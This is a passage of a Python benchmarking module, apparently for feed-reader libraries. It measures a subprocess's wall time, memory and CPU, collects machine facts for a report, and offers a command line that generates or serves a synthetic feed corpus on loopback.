    The command is started by /usr/bin/time (or a bare Python launcher where that is
    missing), in a session of its own: a timeout kills the whole tree.

    Raises:
        OSError: when the command cannot be started.
    """
    with (
        tempfile.TemporaryFile() as out,
        tempfile.TemporaryFile() as err,
        tempfile.NamedTemporaryFile("r", prefix="rusage-", suffix=".txt") as usage,
    ):
        if os.access(_GNU_TIME, os.X_OK):
            launcher = [_GNU_TIME, "-o", usage.name, "-f", "%M", "--", *argv]
        else:
            launcher = [sys.executable, "-S", "-I", "-c", _LAUNCHER, usage.name, *argv]
        start = time.perf_counter()
        proc = subprocess.Popen(
            launcher, stdout=out, stderr=err, env=env, cwd=cwd, start_new_session=True
        )
        sampler = TreeSampler([proc.pid], interval)
        sampler.start()
        returncode: int | None = None
        try:
            returncode = proc.wait(timeout)
        except subprocess.TimeoutExpired:
            pass
        finally:
            if returncode is None:  # timed out or interrupted: the whole tree goes
                with contextlib.suppress(ProcessLookupError):
                    os.killpg(proc.pid, signal.SIGKILL)
                proc.wait()
            sampler.stop()
        wall = time.perf_counter() - start
        if returncode is None:
            returncode = -signal.SIGKILL
        # GNU time writes "Command exited with non-zero status N" (or "terminated by
        # signal") above the figure: the figure is the last line.
        lines = usage.read().split()
        largest = int(lines[-1]) * 1024 if lines and lines[-1].isdigit() else 0  # KiB
        out.seek(0)
        err.seek(0)
        return Measured(
            argv=tuple(argv),
            returncode=returncode,
            wall_s=wall,
            tree_rss_bytes=sampler.peak,
            largest_rss_bytes=largest,
            processes=sampler.processes,
            samples=sampler.samples,
            tree_cpu_s=sum(sampler.cpu.values()),
            stdout=out.read().decode("utf-8", "replace"),
            stderr=err.read().decode("utf-8", "replace"),
            process_peak_bytes=max([largest, *sampler.hwm.values()]),
        )


def machine_facts() -> dict[str, str]:
    """Cores, memory, Python and library versions, for the head of a report."""
    import platform
    from importlib import metadata

    facts = {
        "cpus": f"{os.cpu_count()} (usable: {len(os.sched_getaffinity(0))})",
        "python": f"{platform.python_version()} ({platform.python_implementation()})",
        "platform": platform.platform(terse=True),
    }
    with contextlib.suppress(OSError, ValueError, IndexError):
        with open("/proc/meminfo", encoding="ascii") as f:
            kib = int(f.readline().split()[1])
        facts["memory"] = f"{kib / 1024 / 1024:.1f} GiB"
    with contextlib.suppress(OSError, IndexError):
        with open("/proc/cpuinfo", encoding="utf-8", errors="replace") as f:
            model = next(line for line in f if line.startswith("model name"))
        facts["cpu"] = model.split(":", 1)[1].strip()
    libs = []
    for name in ("feedparser", "aiohttp", "httpx", "nh3", "SQLAlchemy", "reader"):
        with contextlib.suppress(metadata.PackageNotFoundError):
            libs.append(f"{name} {metadata.version(name)}")
    facts["libraries"] = ", ".join(libs)
    return facts


# ----------------------------------------------------------------------- cli


def main(argv: Sequence[str] | None = None) -> int:
    """`python -m bench.corpus serve DIR` serves a generated corpus; `write DIR` writes one."""
    parser = argparse.ArgumentParser(prog="python -m bench.corpus")
    sub = parser.add_subparsers(dest="command", required=True)
    serve = sub.add_parser("serve", help="serve DIR/feed/*.xml on 127.0.0.1 (port printed)")
    serve.add_argument("root", type=Path)
    serve.add_argument("--seed", type=int, default=1)
    serve.add_argument("--hosts", type=int, default=1, help="loopback addresses to listen on")
    write = sub.add_parser("write", help="generate a corpus into DIR/feed/")
    write.add_argument("root", type=Path)
    write.add_argument("--feeds", type=int, default=200)
    write.add_argument("--items", type=int, default=50)
    write.add_argument("--seed", type=int, default=1)
    args = parser.parse_args(argv)
    if args.command == "serve":
        asyncio.run(_serve(args.root, args.seed, _READY, args.hosts))
    else:
        start = time.perf_counter()
        generate_corpus(args.root, args.feeds, args.items, seed=args.seed)
        print(f"wrote {args.feeds} feeds in {time.perf_counter() - start:.1f}s", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
